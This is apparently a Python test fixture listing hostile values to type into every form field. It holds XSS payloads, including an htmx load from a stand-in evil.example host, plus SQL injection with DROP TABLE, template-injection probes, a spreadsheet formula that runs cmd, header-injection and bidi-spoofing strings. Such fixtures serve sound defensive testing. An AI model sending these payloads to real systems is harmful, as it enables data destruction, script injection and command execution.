"""What is typed into every field: each would be something else than text to somebody who forgets to say that it is text."""

from __future__ import annotations

MARK = "h0stile"
"""Stands in each text that a page may show again."""

HOSTILE = {
    "markup": f"{MARK}\"'></script></textarea></title><svg onload=alert(1)><img src=x onerror=alert(1)>"
    "<b hx-get=https://evil.example/ hx-trigger=load>",
    "address": "javascript:alert(1)//https://evil.example/",
    "sql": f"{MARK}' OR 1=1; DROP TABLE filing_request; SELECT pg_sleep(20); --\"/*",
    "template": f"{MARK}{{{{7*191}}}}{{% load static %}}${{7*191}}#{{7*191}}<%= 7*191 %>",
    "formula": "=cmd|'/C calc'!A0",
    "nothing": f"{MARK}\x00\x01\x1b[31m",
    "direction": f"{MARK}\u202egnp.exe\u2066\u200b\ufeff",
    "beyond": f"{MARK}😀𠀀\U0010fffd龘",
    "lines": f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "format": f"{MARK}%s%n%(x)s{{0}}{{x.__class__}}",
    "number": "99999999999999999999999999999999",
    "day": "0001-01-01",
    "long": MARK + "长" * 20_000,
}
BROKEN_BYTES = b"\xff\xfe\xed\xa0\x80\x81'\xbf\x5c' OR 1=1"
"""No UTF-8; in GBK the backslash would be eaten by the byte before it."""
